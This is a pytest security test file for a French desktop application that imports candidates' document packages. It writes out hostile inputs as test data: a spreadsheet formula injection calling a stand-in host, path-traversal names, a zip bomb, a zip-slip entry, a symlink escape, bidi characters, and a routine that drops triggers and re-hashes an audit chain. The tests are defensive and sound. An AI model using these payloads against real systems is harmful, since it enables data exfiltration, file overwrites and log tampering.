"""Hostile data and hostile conditions: formulas in candidates' names, paths that try to leave
the output folder, backups killed midway, a first start killed midway, a base held by another
program. Each test failed on the code before its fix."""

from __future__ import annotations

import contextlib
import csv
import io
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from desktop_app.models import Depot, Piece, Statut
from desktop_app.services.audit import exporter_historique
from desktop_app.services.decisions import enregistrer_decision
from desktop_app.services.espace import Espace, ouvrir_espace
from desktop_app.services.exports import (
    ecrire_matrice_csv,
    ecrire_matrice_xlsx,
    exporter_decisions,
    matrice,
)
from desktop_app.services.importer import importer_paquet
from tests.helpers import pdf_bytes, write_package

FORMULE = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'


def _paquet_formules(racine: Path) -> Path:
    return write_package(
        racine,
        "n_candidat;n_inscription;nom_naissance;prenoms;date_naissance\n"
        f'01234567890;001;"{FORMULE.replace(chr(34), chr(34) * 2)}";+33 Anaïs;01/02/2003\n',
        "n_candidat;n_inscription;code_piece;fichier\n01234567890;001;CINSIG01;fichiers/c.pdf\n",
        {"fichiers/c.pdf": pdf_bytes()},
    )


def _cellules(chemin: Path) -> list[str]:
    texte = chemin.read_bytes().decode("utf-8-sig")
    return [c for ligne in csv.reader(io.StringIO(texte), delimiter=";") for c in ligne]


def test_no_cell_the_application_writes_is_a_formula_and_the_round_trip_stays_exact(
    espace: Espace, tmp_path: Path
) -> None:
    paquet = _paquet_formules(tmp_path / "p")
    importer_paquet(espace.db, espace.store, paquet, worker=espace.inspection)
    with espace.db.write() as s:
        piece = s.query(Piece).one()
        enregistrer_decision(s, piece.id, Statut.NON_CONFORME, "@Claire",
                             commentaire="-recto seul ; =SOMME(A1)")  # fmt: skip
    sorties = {n: tmp_path / n for n in ("decisions.csv", "matrice.csv", "historique.csv")}
    with espace.db.read() as s:
        exporter_decisions(s, 1, sorties["decisions.csv"])
        m = matrice(s, 1)
        exporter_historique(s, "01234567890", sorties["historique.csv"])
    ecrire_matrice_csv(m, sorties["matrice.csv"])
    ecrire_matrice_xlsx(m, tmp_path / "matrice.xlsx")
    for chemin in sorties.values():
        cellules = _cellules(chemin)
        assert not [c for c in cellules if c[:1] in ("=", "+", "-", "@", "\t", "\r")], chemin.name
    assert any(FORMULE in c for c in _cellules(sorties["matrice.csv"]))  # said, as text

    import openpyxl

    feuille = openpyxl.load_workbook(tmp_path / "matrice.xlsx").active
    cellules = [c for ligne in feuille.iter_rows() for c in ligne if c.value is not None]
    assert not [c for c in cellules if c.data_type == "f"]
    assert FORMULE in [c.value for c in cellules]  # the name itself, a string

    # Imported back (with the package's campagne.json and candidatures.csv), decisions.csv
    # gives exactly the comment and the author's decision that were written.
    retour = tmp_path / "retour"
    retour.mkdir()
    for nom in ("campagne.json", "candidatures.csv"):
        (retour / nom).write_bytes((paquet / nom).read_bytes())
    (retour / "pieces.csv").write_bytes(sorties["decisions.csv"].read_bytes())
    (retour / "fichiers").mkdir()
    (retour / "fichiers" / "c.pdf").write_bytes((paquet / "fichiers" / "c.pdf").read_bytes())
    autre = ouvrir_espace(tmp_path / "autre-poste")
    try:
        importer_paquet(autre.db, autre.store, retour, worker=autre.inspection)
        with autre.db.read() as s:
            piece = s.query(Piece).one()
            assert (piece.statut, piece.commentaire) == (
                Statut.NON_CONFORME, "-recto seul ; =SOMME(A1)",
            )  # fmt: skip
            assert piece.candidature.candidat.nom_naissance == FORMULE
    finally:
        autre.close()


def test_outputs_stay_in_the_folder_the_user_chose(espace: Espace, tmp_path: Path) -> None:
    """A session or a pièce code made to climb out of --sortie is refused at import, in
    French; a base filled before that check still writes only under the chosen folder."""
    import json

    from desktop_app.documents.paquet import PaquetInutilisable
    from desktop_app.models import Campagne, PieceCatalogue
    from desktop_app.services.courriers import Genre, contexte, ecrire_courriers, fiches
    from desktop_app.services.exports import copier_pieces
    from tests.helpers import CAMPAGNE

    lignes = ("n_candidat;n_inscription;nom_naissance;prenoms;date_naissance\n"
              "01234567890;001;LEROY;Anaïs;01/02/2003\n")  # fmt: skip
    pieces = "n_candidat;n_inscription;code_piece;fichier\n01234567890;001;CINSIG01;f/c.pdf\n"
    sortie_session = {**CAMPAGNE, "session": "2027/../../../../X"}
    paquet = write_package(tmp_path / "p1", lignes, pieces, {"f/c.pdf": pdf_bytes()},
                           campagne=sortie_session)  # fmt: skip
    with pytest.raises(PaquetInutilisable, match="« session » ne peut contenir"):
        importer_paquet(espace.db, espace.store, paquet, worker=espace.inspection)
    catalogue = json.loads(json.dumps(CAMPAGNE))
    catalogue["pieces"][0]["code"] = "../../../X"
    paquet = write_package(tmp_path / "p2", lignes, pieces.replace("CINSIG01", "../../../X"),
                           {"f/c.pdf": pdf_bytes()}, campagne=catalogue)  # fmt: skip
    rapport = importer_paquet(espace.db, espace.store, paquet, worker=espace.inspection)
    assert any("code « ../../../X » refusé" in str(m) for m in rapport.messages)

    # A base from before the check: the hostile names are in it, the outputs stay inside.
    with espace.db.write() as s:
        s.query(Campagne).update({"session": "2027/../../../../X"})
        s.query(PieceCatalogue).filter_by(code="1NATID01").update({"code": "../../../Y"})
    sortie = tmp_path / "sortie"
    with espace.db.read() as s:
        ctx = contexte(s, 1)
        elements = fiches(s, 1, [1])
        copier_pieces(s, espace.store, [1], sortie)
    ecrire_courriers(ctx, Genre.FICHE, elements, sortie)
    ecrits = [p for p in tmp_path.rglob("*") if p.is_file()]
    dehors = [p for p in ecrits if not p.is_relative_to(tmp_path / "sortie")
              and not p.is_relative_to(tmp_path / "p1") and not p.is_relative_to(tmp_path / "p2")
              and not p.is_relative_to(tmp_path / "donnees")]  # fmt: skip
    assert dehors == [] and any(p.is_relative_to(sortie) for p in ecrits)


def test_a_first_start_killed_midway_leaves_a_folder_that_opens(tmp_path: Path) -> None:
    """An older version made the schema in place: killed midway, it left tables and no
    revision. Such a base, empty, is made again; a new one is made beside and moved in."""
    import sqlite3

    donnees = tmp_path / "donnees"
    donnees.mkdir()
    c = sqlite3.connect(donnees / "controle-pj.sqlite3")
    c.execute("CREATE TABLE campagne (id INTEGER PRIMARY KEY)")  # then the kill
    c.close()  # (`with` only commits: Windows refuses to replace a file still open)
    (donnees / "controle-pj.sqlite3.creation").write_bytes(b"SQLite format 3\x00" + b"\x00" * 99)
    espace = ouvrir_espace(donnees)
    with espace.db.read() as s:
        assert s.query(Piece).count() == 0  # a real, empty base
    espace.close()
    assert not (donnees / "controle-pj.sqlite3.creation").exists()


@pytest.mark.slow
def test_a_first_start_killed_at_any_moment_never_blocks_the_next_one(tmp_path: Path) -> None:
    import random
    import subprocess
    import sys
    import time

    from tests.helpers import tuer

    hasard = random.Random(3)
    programme = "import sys; from desktop_app.services.espace import ouvrir_espace; " \
                "ouvrir_espace(sys.argv[1]).close()"  # fmt: skip
    for essai in range(8):
        donnees = tmp_path / f"d{essai}"
        processus = subprocess.Popen([sys.executable, "-c", programme, str(donnees)])
        time.sleep(hasard.uniform(0.2, 1.2))  # imports take ~0.3 s, the schema ~0.5 s more
        tuer(processus.pid)
        processus.wait()
        espace = ouvrir_espace(donnees)  # whatever the moment: it opens
        with espace.db.read() as s:
            assert s.query(Piece).count() == 0
        espace.close()


def test_backups_killed_midway_leave_no_debris(espace: Espace) -> None:
    import os
    import time

    dossier = espace.paths.sauvegardes
    dossier.mkdir(exist_ok=True)
    vieux = [dossier / "controle-pj-x.sqlite3.partielle", dossier / "y.partielle-journal"]
    for debris in vieux:
        debris.write_bytes(b"\x00" * 4096)
        os.utime(debris, (time.time() - 3600, time.time() - 3600))
    en_cours = dossier / "z.partielle"  # being written by another backup right now
    en_cours.write_bytes(b"\x00")
    espace.close()
    ouvrir_espace(espace.paths.root).close()  # the next start cleans
    assert not any(d.exists() for d in vieux) and en_cours.exists()
    os.utime(en_cours, (time.time() - 3600, time.time() - 3600))
    autre = ouvrir_espace(espace.paths.root)
    try:
        autre.sauvegarder("manuelle")  # and each backup too
    finally:
        autre.close()
    assert not en_cours.exists()


@pytest.fixture
def petit_disque(tmp_path: Path) -> Iterator[Path]:
    """A 3 Mo disk of its own (tmpfs), to be filled: needs root's mount, as CI has."""
    import subprocess

    if sys.platform != "linux":
        pytest.skip("disque de test : tmpfs de Linux")
    point = tmp_path / "disque"
    point.mkdir()
    monte = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=3m", "tmpfs", str(point)],
                           capture_output=True)  # fmt: skip
    if monte.returncode:
        pytest.skip(f"pas de disque de test : mount a refusé ({monte.stderr.decode().strip()})")
    try:
        yield point
    finally:
        subprocess.run(["umount", "-l", str(point)], capture_output=True)


def _remplir(disque: Path) -> None:
    with (disque / "remplissage").open("wb") as f:
        try:
            while True:
                f.write(b"\x00" * 65536)
                f.flush()
        except OSError:
            pass


def test_a_full_disk_stops_the_import_writes_nothing_and_leaves_no_file(
    petit_disque: Path, paquet_demo: Path
) -> None:
    """Before: the import exited 0 with hundreds of valid files « Document illisible »."""
    from desktop_app.models import Candidature
    from desktop_app.services.progression import ImportInterrompu

    espace = ouvrir_espace(petit_disque / "donnees")
    try:
        with pytest.raises(ImportInterrompu, match="Rien n'a été importé"):
            importer_paquet(espace.db, espace.store, paquet_demo, worker=espace.inspection)
        with espace.db.read() as s:
            assert s.query(Candidature).count() == 0
        assert [p.name for p in espace.store.root.iterdir()] == []  # the space is given back
    finally:
        espace.close()


def test_a_full_disk_while_deciding_or_exporting_is_said_and_loses_nothing(
    petit_disque: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from desktop_app.cli import main

    donnees = petit_disque / "donnees"
    paquet = write_package(
        tmp_path / "p",
        "n_candidat;n_inscription;nom_naissance;prenoms;date_naissance\n"
        "01234567890;001;LEROY;Anaïs;01/02/2003\n",
        "n_candidat;n_inscription;code_piece;fichier;statut\n"
        "01234567890;001;CINSIG01;f/c.pdf;Conforme\n"
        "01234567890;001;PSNATT03;;\n",
        {"f/c.pdf": pdf_bytes()},
    )
    assert main(["--data-dir", str(donnees), "import", str(paquet)]) == 0
    liste = tmp_path / "recues.txt"
    liste.write_text("01234567890 PSNATT03\n", encoding="utf-8")
    _remplir(petit_disque)
    capsys.readouterr()
    code = main(["--data-dir", str(donnees), "reception", str(liste), "--appliquer",
                 "--gestionnaire", "Claire"])  # fmt: skip
    erreur = capsys.readouterr().err
    assert code == 1 and "le disque est plein" in erreur and "Traceback" not in erreur
    # An XLSX written to a full disk, from a base elsewhere.
    ailleurs = tmp_path / "ailleurs"
    assert main(["--data-dir", str(ailleurs), "import", str(paquet)]) == 0
    capsys.readouterr()
    code = main(["--data-dir", str(ailleurs), "matrix", "--sortie", str(petit_disque / "m.xlsx")])
    erreur = capsys.readouterr().err
    assert code == 1 and "le disque est plein" in erreur and "Traceback" not in erreur
    assert not list(petit_disque.glob("*.tmp")) and not (petit_disque / "m.xlsx").exists()
    # The window's base, open when the disk fills: the decision is refused in French, retryable.
    (petit_disque / "remplissage").unlink()
    espace = ouvrir_espace(donnees)
    try:
        with espace.db.read() as s:
            postale = s.query(Piece).filter(Piece.statut.is_(None)).one().id
        _remplir(petit_disque)
        from desktop_app.services.espace import BaseIndisponible

        with pytest.raises(BaseIndisponible, match="le disque est plein"):
            espace.ecrire(lambda s: enregistrer_decision(s, postale, Statut.RECUE, "Claire"))
        (petit_disque / "remplissage").unlink()
        with espace.db.read() as s:
            statuts = sorted((p.statut is None, p.statut) for p in s.query(Piece))
        assert statuts == [(False, Statut.CONFORME), (True, None)]  # nothing lost, nothing half
        espace.ecrire(lambda s: enregistrer_decision(s, postale, Statut.RECUE, "Claire"))
    finally:
        espace.close()


@pytest.mark.slow
def test_a_base_held_by_another_program_is_said_in_use_never_damaged_and_nobody_waits(
    tmp_path: Path, paquet_demo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before: restore was still waiting after 300 s, backup after 90 s, and a held base was
    called « endommagée »."""
    import subprocess
    import sys
    import time

    from desktop_app.cli import main

    donnees = tmp_path / "donnees"
    assert main(["--data-dir", str(donnees), "import", str(paquet_demo)]) == 0
    assert main(["--data-dir", str(donnees), "backup"]) == 0
    base = donnees / "controle-pj.sqlite3"
    tenir = ("import sqlite3, sys, time; c = sqlite3.connect(sys.argv[1], isolation_level=None); "
             "c.execute('PRAGMA locking_mode=EXCLUSIVE'); c.execute('BEGIN EXCLUSIVE'); "
             "c.execute('SELECT count(*) FROM decision').fetchone(); print('tenue', flush=True); "
             "time.sleep(120)")  # fmt: skip
    autre = subprocess.Popen([sys.executable, "-c", tenir, str(base)], stdout=subprocess.PIPE,
                             text=True)  # fmt: skip
    try:
        assert autre.stdout is not None and autre.stdout.readline().strip() == "tenue"
        capsys.readouterr()
        for commande in (["campagnes"], ["backup"], ["restore"], ["verify-audit"]):
            debut = time.monotonic()
            code = main(["--data-dir", str(donnees), *commande])
            erreur = capsys.readouterr().err
            assert code == 1 and time.monotonic() - debut < 30, commande
            assert "utilisée par un autre programme" in erreur and "endommag" not in erreur.replace(
                "n'est pas endommagée", "")  # fmt: skip
        assert base.exists() and not list(donnees.glob("*endommagee*"))  # never set aside
    finally:
        autre.kill()
        autre.wait()
    assert main(["--data-dir", str(donnees), "campagnes"]) == 0  # free again: it opens


@pytest.fixture
def lecture_seule(tmp_path: Path, paquet_demo: Path) -> Iterator[Path]:
    """A data folder with its base, seen through a read-only mount (root's mount, as CI)."""
    if sys.platform != "linux":
        pytest.skip("montage en lecture seule : mount de Linux")
    import subprocess

    from desktop_app.cli import main

    assert main(["--data-dir", str(tmp_path / "source"), "import", str(paquet_demo)]) == 0
    vue = tmp_path / "vue"
    vue.mkdir()
    for commande in (["mount", "--bind", str(tmp_path / "source"), str(vue)],
                     ["mount", "-o", "remount,ro,bind", str(vue)]):  # fmt: skip
        fait = subprocess.run(commande, capture_output=True)
        if fait.returncode:
            subprocess.run(["umount", str(vue)], capture_output=True)
            pytest.skip(f"pas de montage en lecture seule : {fait.stderr.decode().strip()}")
    try:
        yield vue
    finally:
        subprocess.run(["umount", "-l", str(vue)], capture_output=True)


def test_a_read_only_folder_reads_everything_and_refuses_every_write_in_french(
    lecture_seule: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], paquet_demo: Path
) -> None:
    from desktop_app.cli import main
    from desktop_app.models.database import BaseEnLectureSeule

    d = ["--data-dir", str(lecture_seule)]
    lectures = [["campagnes"], ["verify-audit"], ["export", "--decisions", str(tmp_path / "d.csv")],
                ["matrix", "--sortie", str(tmp_path / "m.csv")]]  # fmt: skip
    for lire in lectures:
        assert main([*d, *lire]) == 0, lire
    liste = tmp_path / "recues.txt"
    liste.write_text("00000000001 PSNATT03\n", encoding="utf-8")
    capsys.readouterr()
    ecritures = [["import", str(paquet_demo)], ["backup"],
                 ["reception", str(liste), "--appliquer", "--gestionnaire", "Claire"]]  # fmt: skip
    for ecrire in ecritures:
        code = main([*d, *ecrire])
        erreur = capsys.readouterr().err
        assert code == 1 and "lecture seule" in erreur and "Traceback" not in erreur, ecrire
    espace = ouvrir_espace(lecture_seule)  # the window's way: reading yes, writing refused
    try:
        with espace.db.read() as s:
            piece = s.query(Piece).first()
            assert piece is not None
        with pytest.raises(BaseEnLectureSeule, match="lecture seule"):
            espace.ecrire(lambda s: enregistrer_decision(s, piece.id, Statut.RECUE, "Claire"))
        assert not espace.a_sauvegarder()
    finally:
        espace.close()


CANDIDATURES = ("n_candidat;n_inscription;nom_naissance;prenoms;date_naissance\n"
                "01234567890;001;LEROY;Anaïs;01/02/2003\n")  # fmt: skip
PIECES = "n_candidat;n_inscription;code_piece;fichier\n01234567890;001;CINSIG01;f/c.pdf\n"


def _refuse(espace: Espace, paquet: Path, attendu: str) -> None:
    from desktop_app.documents.paquet import PaquetInutilisable

    with pytest.raises(PaquetInutilisable) as refus:
        importer_paquet(espace.db, espace.store, paquet, worker=espace.inspection)
    assert attendu in str(refus.value), str(refus.value)


def test_hostile_packages_are_bounded_and_refused_in_french(espace: Espace, tmp_path: Path) -> None:
    import codecs
    import os
    import zipfile

    from tests.helpers import CAMPAGNE

    # A 256 Mo bound on the CSV files, declared or real, zip or folder: refused before reading.
    bombe = tmp_path / "bombe.zip"
    with zipfile.ZipFile(bombe, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("campagne.json", __import__("json").dumps(CAMPAGNE))
        z.writestr("pieces.csv", PIECES)
        with z.open("candidatures.csv", "w", force_zip64=True) as f:
            bloc = b"n_candidat;" * 100_000
            for _ in range(257 * 1024 * 1024 // len(bloc) + 1):
                f.write(bloc)
    assert bombe.stat().st_size < 2 * 1024 * 1024
    _refuse(espace, bombe, "candidatures.csv dépasse 256 Mo")
    dossier = write_package(tmp_path / "gros", CANDIDATURES, PIECES)
    with (dossier / "candidatures.csv").open("r+b") as f:
        f.truncate(300 * 1024 * 1024)  # sparse: nothing is written, nothing should be read
    _refuse(espace, dossier, "candidatures.csv dépasse 256 Mo")

    cas = {
        "bom-cp1252": (codecs.BOM_UTF8 + CANDIDATURES.encode("cp1252"), "annoncé en UTF-8"),
        "utf16-tronque": ((codecs.BOM_UTF16_LE + CANDIDATURES.encode("utf-16-le"))[:-1],
                          "annoncé en UTF-16"),
        "entete-geant": (b"n" * (1024 * 1024) + b"\n", "la première ligne dépasse 64 Ko"),
    }  # fmt: skip
    for nom, (octets, attendu) in cas.items():
        paquet = write_package(tmp_path / nom, CANDIDATURES, PIECES)
        (paquet / "candidatures.csv").write_bytes(octets)
        _refuse(espace, paquet, attendu)

    paquet = write_package(tmp_path / "lien", CANDIDATURES, PIECES)
    (tmp_path / "dehors.csv").write_text(CANDIDATURES, encoding="utf-8")
    (paquet / "candidatures.csv").unlink()
    with contextlib.suppress(OSError):  # Windows without the privilege (WinError 1314), Wine
        os.symlink(tmp_path / "dehors.csv", paquet / "candidatures.csv")
    if (paquet / "candidatures.csv").is_file():  # a link made, and followed
        _refuse(espace, paquet, "sort du paquet")

    paquet = write_package(tmp_path / "json", CANDIDATURES, PIECES)
    (paquet / "campagne.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    _refuse(espace, paquet, "campagne.json : JSON")


def test_identities_and_invisible_characters_are_never_taken_in_silence(
    espace: Espace, tmp_path: Path
) -> None:
    import zipfile

    from desktop_app.models import Candidat, Depot

    lignes = (
        "n_candidat;n_inscription;nom_naissance;prenoms;date_naissance\n"
        "01234567890;001;LE\u202eROY\u200b\x00;Anaïs\u2066;01/02/2003\n"
        "01234567890;002;DURAND;Paul;05/06/2001\n"  # another person under the same N°
    )
    paquet = write_package(tmp_path / "p", lignes, PIECES, {"f/c.pdf": pdf_bytes()})
    rapport = importer_paquet(espace.db, espace.store, paquet, worker=espace.inspection)
    assert any("déjà lu ligne 2 avec une autre identité" in str(m) for m in rapport.messages)
    assert rapport.lignes_refusees == 1
    with espace.db.read() as s:
        [candidat] = s.query(Candidat).all()
        assert (candidat.nom_naissance, candidat.prenoms) == ("LEROY", "Anaïs")

    # A zip entry that climbs and comes back (« a/../f/c.pdf ») is not a file of the package.
    archive = tmp_path / "monte.zip"
    with zipfile.ZipFile(archive, "w") as z:
        for nom in ("campagne.json", "candidatures.csv", "pieces.csv"):
            z.write(paquet / nom, nom)
        z.writestr("a/../f/c.pdf", pdf_bytes("autre"))
    autre = ouvrir_espace(tmp_path / "autre")
    try:
        importer_paquet(autre.db, autre.store, archive, worker=autre.inspection)
        with autre.db.read() as s:
            [depot] = s.query(Depot).all()
            assert not depot.recevable and "absent" in depot.motif
    finally:
        autre.close()


def test_a_package_refused_at_once_prints_no_traceback(tmp_path: Path) -> None:
    import subprocess
    import sys

    (tmp_path / "vide").mkdir()
    fait = subprocess.run([sys.executable, "-m", "desktop_app", "--data-dir", str(tmp_path / "d"),
                           "import", str(tmp_path / "vide")], capture_output=True, text=True,
                          timeout=120)  # fmt: skip
    assert fait.returncode == 1 and "campagne.json introuvable" in fait.stderr
    assert "Traceback" not in fait.stderr


@pytest.mark.skipif(__import__("os").name != "posix", reason="POSIX permissions")
def test_personal_data_is_readable_by_the_user_only(tmp_path: Path, paquet_demo: Path) -> None:
    import stat
    import subprocess
    import sys

    donnees = tmp_path / "donnees"
    journal = tmp_path / "journal"
    env = {**__import__("os").environ, "CONTROLE_PJ_LOG_DIR": str(journal)}
    for commande in (["import", str(paquet_demo)], ["backup"]):
        subprocess.run([sys.executable, "-m", "desktop_app", "--data-dir", str(donnees),
                        *commande], check=True, capture_output=True, env=env)  # fmt: skip
    ouverts = []
    for chemin in [donnees, *donnees.rglob("*"), journal, *journal.rglob("*")]:
        mode = stat.S_IMODE(chemin.stat().st_mode)
        if mode & 0o077:
            ouverts.append(f"{chemin.relative_to(tmp_path)} {oct(mode)}")
    assert ouverts == []


def _forcer(base: Path, *requetes: str) -> None:
    """What an attacker with write access to the folder does: triggers dropped, rows changed
    with sqlite3 directly, and the chain re-hashed so that it holds again."""
    import sqlite3

    from desktop_app.models.chaine import CHAMPS, GENESE, empreinte

    with sqlite3.connect(base) as c:
        c.execute("DROP TRIGGER IF EXISTS decision_no_update")
        c.execute("DROP TRIGGER IF EXISTS decision_no_delete")
        for requete in requetes:
            c.execute(requete)
        c.row_factory = sqlite3.Row
        precedente = GENESE
        for ligne in c.execute("SELECT * FROM decision ORDER BY id").fetchall():
            entree = {k: ligne[k] for k in ligne.keys()}  # noqa: SIM118 - a Row iterates values
            for k in ("ancien_statut", "nouveau_statut", "source"):  # stored by name
                entree[k] = type("N", (), {"name": entree[k]})() if entree[k] else None
            entree["horodatage"] = __import__("datetime").datetime.fromisoformat(
                entree["horodatage"]).replace(tzinfo=__import__("datetime").UTC)  # fmt: skip
            assert all(k in entree for k in CHAMPS)
            nouvelle = empreinte(precedente, entree)
            c.execute("UPDATE decision SET empreinte_precedente = ?, empreinte = ? WHERE id = ?",
                      (precedente, nouvelle, ligne["id"]))  # fmt: skip
            precedente = nouvelle
    c.close()


def test_a_history_cut_or_rewritten_and_re_hashed_is_caught_by_the_anchors_kept_outside(
    tmp_path: Path, paquet_demo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before: cutting the last entries, or editing one and re-hashing the rest, passed
    verify-audit. Backups and printed fiches now keep the chain's head outside the base."""
    from desktop_app.cli import main
    from desktop_app.services.audit import tete_de
    from desktop_app.services.courriers import Genre, apercu, contexte, fiches
    from desktop_app.services.mise_en_page import pages_en_pixels  # noqa: F401 - PDF text below
    from tests.unit.ecrivain import pieces_decidables

    donnees = tmp_path / "donnees"
    assert main(["--data-dir", str(donnees), "import", str(paquet_demo)]) == 0
    espace = ouvrir_espace(donnees)
    try:
        for n, piece_id in enumerate(pieces_decidables(espace.db)[:6]):
            espace.ecrire(lambda s, p=piece_id, n=n: enregistrer_decision(
                s, p, Statut.NON_CONFORME if n % 2 else Statut.CONFORME, "Claire",
                commentaire="Illisible" if n % 2 else "", fichier_affiche=True))  # fmt: skip
        with espace.db.read() as s:
            pdf = apercu(contexte(s, 1), Genre.FICHE, fiches(s, 1, [1])[0])
            tete = tete_de(s)
    finally:
        espace.close()
    import pymupdf

    texte = "".join(page.get_text() for page in pymupdf.open(stream=pdf, filetype="pdf"))
    ligne = next(li for li in texte.splitlines() if li.startswith("Historique des décisions"))
    assert str(tete.compte) in ligne and tete.tete[:16] in ligne  # the paper anchor
    assert main(["--data-dir", str(donnees), "backup"]) == 0
    capsys.readouterr()
    assert main(["--data-dir", str(donnees), "verify-audit", "--ancre", ligne]) == 0
    assert "2 ancre(s)" in capsys.readouterr().out

    base = donnees / "controle-pj.sqlite3"
    _forcer(base, "DELETE FROM decision WHERE id > (SELECT max(id) - 2 FROM decision)")
    assert main(["--data-dir", str(donnees), "verify-audit", "--ancre", ligne]) == 1
    rapport = capsys.readouterr().out
    assert "tronqué" in rapport and "NON intègre" in rapport
    assert "modifié" not in rapport and "ne suit pas" not in rapport  # the chain alone holds

    # Rewritten instead (a comment changed, the rest re-hashed): caught as well.
    from desktop_app.models.database import REVISIONS
    from desktop_app.services.sauvegardes import lister, restaurer

    restaurer(lister(donnees / "sauvegardes")[0], base, donnees / "sauvegardes", REVISIONS)
    _forcer(base, "UPDATE decision SET commentaire = 'Conforme' WHERE id = "
                  "(SELECT min(id) FROM decision WHERE commentaire = 'Illisible')")  # fmt: skip
    assert main(["--data-dir", str(donnees), "verify-audit"]) == 1
    assert "réécrit" in capsys.readouterr().out


def test_a_deposit_or_a_comment_changed_behind_the_history_is_caught(
    espace: Espace, paquet_demo: Path
) -> None:
    import sqlite3

    from desktop_app.models import Depot
    from desktop_app.services.audit import verifier_historique
    from tests.unit.ecrivain import pieces_decidables

    importer_paquet(espace.db, espace.store, paquet_demo, worker=espace.inspection)
    conforme, refusee = pieces_decidables(espace.db)[:2]
    espace.ecrire(lambda s: enregistrer_decision(s, conforme, Statut.CONFORME, "Claire",
                                                 fichier_affiche=True))  # fmt: skip
    espace.ecrire(lambda s: enregistrer_decision(s, refusee, Statut.NON_CONFORME, "Claire",
                                                 commentaire="Illisible"))  # fmt: skip
    with espace.db.read() as s:
        assert verifier_historique(s).intacte
        autre = s.query(Depot).filter(Depot.piece_id != conforme, Depot.sha256.isnot(None)).first()
        assert autre is not None
    with sqlite3.connect(espace.paths.database) as c:
        c.execute("UPDATE depot SET sha256 = ? WHERE piece_id = ?", (autre.sha256, conforme))
        c.execute("UPDATE piece SET commentaire = 'Document accepté' WHERE id = ?", (refusee,))
    c.close()
    with espace.db.read() as s:
        verification = verifier_historique(s)
    assert set(verification.pieces_incoherentes) == {conforme, refusee}


def test_a_campaign_purged_leaves_no_personal_data_and_says_what_went(
    tmp_path: Path, paquet_demo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import sqlite3

    from desktop_app.cli import main
    from desktop_app.models import Candidat, Purge
    from desktop_app.services.audit import verifier_historique
    from tests.helpers import CAMPAGNE

    donnees = tmp_path / "donnees"
    autre = write_package(tmp_path / "autre", CANDIDATURES, PIECES, {"f/c.pdf": pdf_bytes("x")},
                          campagne={**CAMPAGNE, "session": "2031"})  # fmt: skip
    for paquet in (paquet_demo, autre):
        assert main(["--data-dir", str(donnees), "import", str(paquet)]) == 0
    espace = ouvrir_espace(donnees)
    try:
        for piece_id in (1, 2):
            espace.ecrire(lambda s, p=piece_id: enregistrer_decision(
                s, p, Statut.NON_CONFORME, "Claire", commentaire="Illisible"))  # fmt: skip
        with espace.db.read() as s:
            from desktop_app.models import Campagne

            demo = s.get(Campagne, 1)
            assert demo is not None
            titre = demo.titre
            noms = {c.nom_naissance for c in s.query(Candidat)}
    finally:
        espace.close()
    assert main(["--data-dir", str(donnees), "backup"]) == 0
    capsys.readouterr()
    assert main(["--data-dir", str(donnees), "purge", "--campagne", "1", "--confirmer", "non",
                 "--gestionnaire", "Mme Roux"]) == 2  # fmt: skip
    assert "tapez exactement le titre" in capsys.readouterr().err
    assert main(["--data-dir", str(donnees), "purge", "--campagne", "1", "--confirmer", titre,
                 "--gestionnaire", "Mme Roux"]) == 0  # fmt: skip
    dit = capsys.readouterr().out
    assert "purgée" in dit and "candidature(s)" in dit and "sauvegarde(s) effacée(s)" in dit

    espace = ouvrir_espace(donnees)
    try:
        with espace.db.read() as s:
            restants = {c.nom_naissance for c in s.query(Candidat)}
            assert restants == {"LEROY"} and len(noms) > 1  # the other campaign's only
            [purge] = s.query(Purge).all()
            assert purge.gestionnaire == "Mme Roux" and purge.campagne == titre
            assert verifier_historique(s).intacte  # the rest chained again
            shas = {d.sha256 for d in s.query(Depot)}
    finally:
        espace.close()
    assert {p.name for p in (donnees / "fichiers").iterdir()} == shas  # the others' files went
    # No backup holds the purged candidates any more: the one left is the purged base's.
    for sauvegarde in (donnees / "sauvegardes").glob("*.sqlite3"):
        with sqlite3.connect(sauvegarde) as c:
            assert {r[0] for r in c.execute("SELECT nom_naissance FROM candidat")} == {"LEROY"}
        c.close()
